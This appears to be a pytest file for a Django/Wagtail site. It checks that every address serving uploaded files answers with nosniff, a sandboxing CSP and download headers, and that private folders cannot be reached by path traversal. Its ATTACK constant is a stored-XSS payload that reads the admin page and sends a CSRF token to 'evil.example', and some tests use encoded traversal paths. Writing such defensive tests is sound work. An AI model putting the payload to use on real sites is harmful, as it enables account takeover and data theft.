"""A file someone uploaded never runs in our origin.

Every address that answers with a stored file (MEDIA_URL in development,
Wagtail documents, /medias/<uid>/..., a proposal's sound) sends it with
``nosniff`` and a sandboxing CSP, and as a download unless we made it
ourselves; private files have no public address at all.
"""

import uuid

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import URLPattern, URLResolver, get_resolver
from wagtail.documents import get_document_model

from quartiers.newsroom.models import Submission
from quartiers.uploads.models import MediaAsset
from quartiers.uploads.tests.test_media_serving import make_asset
from tests.factories import png_bytes

pytestmark = pytest.mark.django_db

# What an animator's "document" did: read the coordinator's CSRF token.
ATTACK = (
    b"<html><body><script>fetch('/admin/users/new/').then(r => r.text())"
    b".then(t => new Image().src = 'https://evil.example/?' + t)</script>"
    b"</body></html>"
)


def assert_cannot_run(response, *, download: bool = True):
    assert response.status_code in (200, 206), response.status_code
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy
    if download:
        assert response["Content-Disposition"].startswith("attachment")


# --- each address that serves a stored file -------------------------------
# A case: (client, portal_a, people) -> (client, url, download expected).


def _dev_media_untrusted(client, portal_a, people):
    name = default_storage.save("images/page.html", ContentFile(ATTACK))
    return client, f"/media/{name}", True


def _dev_media_photo(client, portal_a, people):
    name = default_storage.save("images/photo.png", ContentFile(png_bytes()))
    return client, f"/media/{name}", False


def _document(client, portal_a, people):
    document = get_document_model().objects.create(
        title="Compte rendu",
        file=ContentFile(ATTACK, name="compte-rendu.html"),
        collection=portal_a.collection,
    )
    return client, document.url, True


def _document_pdf(client, portal_a, people):
    document = get_document_model().objects.create(
        title="Affiche",
        file=ContentFile(b"%PDF-1.4\n%%EOF\n", name="affiche.pdf"),
        collection=portal_a.collection,
    )
    return client, document.url, True


def _captions(client, portal_a, people):
    document = get_document_model().objects.create(
        title="Sous-titres",
        file=ContentFile(
            b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nBonjour\n", name="sous.vtt"
        ),
        collection=portal_a.collection,
    )
    return client, document.url, True


def _asset_original(client, portal_a, people):
    asset = make_asset(portal_a, by=people["resident_a"])
    asset.original.storage.delete(asset.original.name)
    asset.original.name = asset.original.storage.save(
        f"medias/{portal_a.pk}/{asset.uid}/original.html", ContentFile(ATTACK)
    )
    asset.save()
    client.force_login(people["animator_a"])
    return client, asset.original_url, True


def _testimony_original(client, portal_a, people):
    """A testimony is a sound asset sent by a resident: its sender gets it."""
    asset = make_asset(portal_a, by=people["resident_a"])
    client.force_login(people["resident_a"])
    return client, asset.original_url, True


def _asset_audio(client, portal_a, people):
    return client, make_asset(portal_a).audio_url, False


def _asset_audio_download(client, portal_a, people):
    return client, make_asset(portal_a).download_url, True


def _asset_video(client, portal_a, people):
    return client, make_asset(portal_a, kind=MediaAsset.VIDEO).video_720_url, False


def _asset_video_360(client, portal_a, people):
    return client, make_asset(portal_a, kind=MediaAsset.VIDEO).video_360_url, False


def _asset_poster(client, portal_a, people):
    return client, make_asset(portal_a, kind=MediaAsset.VIDEO).poster_url, False


def _asset_hls(client, portal_a, people):
    return client, make_asset(portal_a, kind=MediaAsset.VIDEO).hls_url, False


def _asset_hls_file(client, portal_a, people):
    asset = make_asset(portal_a, kind=MediaAsset.VIDEO)
    return client, f"/medias/{asset.uid}/hls/720/seg_000.ts", False


def _proposal_audio(client, portal_a, people):
    submission = Submission.objects.create(
        portal=portal_a, author=people["resident_a"], title="Mon marché", text="."
    )
    submission.audio.save("voix.html", ContentFile(ATTACK))
    client.force_login(people["resident_a"])
    return client, f"/medias/propositions/{submission.pk}/son", True


CASES = {
    "media (development): a page slipped into a public folder": _dev_media_untrusted,
    "media (development): a resized photo": _dev_media_photo,
    "document": _document,
    "document (PDF)": _document_pdf,
    "TV captions (a document)": _captions,
    "media original": _asset_original,
    "testimony original": _testimony_original,
    "media sound": _asset_audio,
    "media sound, downloaded": _asset_audio_download,
    "media video 720p": _asset_video,
    "media video 360p": _asset_video_360,
    "media poster": _asset_poster,
    "media HLS playlist": _asset_hls,
    "media HLS segment": _asset_hls_file,
    "proposal sound": _proposal_audio,
}
# The views above, by URL name: a new address that serves files must be added.
COVERED_VIEWS = {
    "public_media",
    "wagtaildocs_serve",
    "uploads:original",
    "uploads:audio",
    "uploads:video_720",
    "uploads:video_360",
    "uploads:poster",
    "uploads:hls_master",
    "uploads:hls_file",
    "submission_audio",
}
# Views of those modules that answer with something else than a file.
NOT_FILES = {
    "uploads:status",
    "uploads:retry",
    "wagtaildocs_authenticate_with_password",
}
FILE_MODULES = (
    "quartiers.uploads.views",
    "quartiers.uploads.serving",
    "quartiers.uploads.documents",
    "quartiers.newsroom.audio",
    "django.views.static",
    "wagtail.documents.views.serve",
)


@pytest.fixture
def people(resident_a, animator_a):
    return {"resident_a": resident_a, "animator_a": animator_a}


@pytest.mark.parametrize("case", CASES)
def test_every_stored_file_is_answered_so_that_it_cannot_run(
    case, client, portal_a, people
):
    client, url, download = CASES[case](client, portal_a, people)
    for method in ("get", "head"):
        response = getattr(client, method)(url)
        assert_cannot_run(response, download=download)


def _file_views(resolver=None, namespace=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _file_views(entry, inner)
        elif isinstance(entry, URLPattern):
            callback = entry.callback
            module = getattr(callback, "__module__", "")
            if module.startswith(FILE_MODULES):
                yield f"{namespace}{entry.name or callback.__name__}"


def test_every_address_that_serves_files_is_in_the_list_above():
    found = set(_file_views()) - NOT_FILES
    assert found == COVERED_VIEWS


# --- what has no public address --------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "documents/compte-rendu.html",
        "original_images/portrait.jpg",
        f"medias/1/{uuid.uuid4()}/original.m4a",
        f"medias/1/{uuid.uuid4()}/audio.mp3",
        "submissions/audio/2026/12/voix.m4a",
        "private/anything.txt",
        "page.html",
    ],
)
def test_private_folders_have_no_public_address(client, name):
    default_storage.save(name, ContentFile(ATTACK))
    assert client.get(f"/media/{name}").status_code == 404
    assert client.get(f"/media/images/../{name}").status_code == 404
    assert client.get(f"/media/images/%2e%2e/{name}").status_code == 404


def test_behind_nginx_private_files_go_out_by_internal_redirect(
    client, portal_a, resident_a, animator_a, settings
):
    """The application checks who asks; the web server sends the bytes from
    an internal location that has no address of its own."""
    settings.QUARTIERS_MEDIA_ACCEL_REDIRECT = "/media-protege/"
    asset = make_asset(portal_a, by=resident_a)
    client.force_login(animator_a)
    response = client.get(asset.original_url)
    assert response["X-Accel-Redirect"] == f"/media-protege/{asset.original.name}"
    assert response.content == b""
    assert_cannot_run(response)

    document = get_document_model().objects.create(
        title="Compte rendu",
        file=ContentFile(b"%PDF-1.4\n%%EOF\n", name="cr.pdf"),
        collection=portal_a.collection,
    )
    response = client.get(document.url)
    assert response["X-Accel-Redirect"] == f"/media-protege/{document.file.name}"
    assert_cannot_run(response)

    client.logout()
    assert client.get(asset.original_url).status_code == 404
